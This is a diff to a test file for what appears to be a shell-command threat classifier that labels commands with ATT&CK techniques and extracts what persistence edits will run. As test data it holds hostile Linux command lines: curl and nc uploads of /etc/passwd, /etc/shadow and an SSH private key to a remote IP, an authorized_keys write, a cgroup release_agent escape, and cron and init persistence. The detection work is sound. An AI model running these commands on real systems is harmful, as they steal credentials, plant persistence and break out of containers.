@@ -9,7 +9,10 @@ const catalog = builtinCatalog();
 function shown(commandLine: string, platform: "windows" | "linux") {
   const resolution = resolve({ commandLine, platform, as: "typed" }, catalog);
   const techniques = resolution.invocations.flatMap(({ behaviours }) => behaviours.flatMap((one) => one.techniques));
-  return { techniques, score: judge(resolution)?.scored.score ?? 0 };
+  const told = resolution.invocations.flatMap(({ behaviours }) => behaviours.flatMap((one) => one.runs));
+  const runs = told.map(({ value }) => value);
+  const commands = told.flatMap(({ what, value }) => (what === "command" || what === "executable" ? [value] : []));
+  return { techniques, runs, commands, score: judge(resolution)?.scored.score ?? 0 };
 }
 
 const STARTUP = "C:\\Users\\b\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup";
@@ -48,11 +51,33 @@ it.each([
   ["echo 'x' >> /home/b/.bashrc", "T1546.004"],
   ["cp k /root/.ssh/authorized_keys", "T1098.004"],
   ["cp /bin/sh /tmp/crond", "T1036.003"],
+  ["sed -i '$a x' /etc/init.d/a", "T1037.004"],
+  ["echo /tmp/c > /sys/fs/cgroup/rdma/release_agent", "T1611"],
   ["curl -F data=@/etc/passwd http://192.0.2.7/u", "T1087.001"],
   ["curl -T /home/b/.ssh/id_rsa http://192.0.2.7/u", "T1552.004"],
   ["nc 192.0.2.7 4444 < /etc/shadow", "T1003.008"],
 ])("tells by the file what a program of Linux does: %s", (line, technique) => {
   expect(shown(line, "linux").techniques).toContain(technique);
+});
+
+it.each([
+  ["sed -i '$a * * * * * root /opt/a -x' /etc/crontab", "/opt/a -x"],
+  ["sed -i '/^exit 0/i /opt/a &' /etc/rc.local", "/opt/a"],
+  ["sed -i 's#^ExecStart=.*#ExecStart=/opt/a#' /etc/systemd/system/a.service", "/opt/a"],
+  ["sed -i 's#exit 0#/opt/a\\nexit 0#' /etc/rc.local", "/opt/a"],
+  ["echo '* * * * * root /opt/a' | sudo tee -a /etc/cron.d/a", "/opt/a"],
+  ["echo '/opt/a -x' | tee /etc/init.d/a", "/opt/a -x"],
+])("tells what runs some day of the text that is put into a file: %s", (line, expected) => {
+  expect(shown(line, "linux").runs).toContain(expected);
+});
+
+it.each([
+  "sed -i 's/robbyrussell/agnoster/' /home/b/.zshrc",
+  "sed -i 's/HISTSIZE=1000/HISTSIZE=9000/' /home/b/.bashrc",
+  "sed -i '/^#/d' /etc/crontab",
+  "cp job /etc/cron.d/job",
+])("takes pieces of lines for no commands: %s", (line) => {
+  expect(shown(line, "linux").commands).toEqual([]);
 });
 
 it.each([
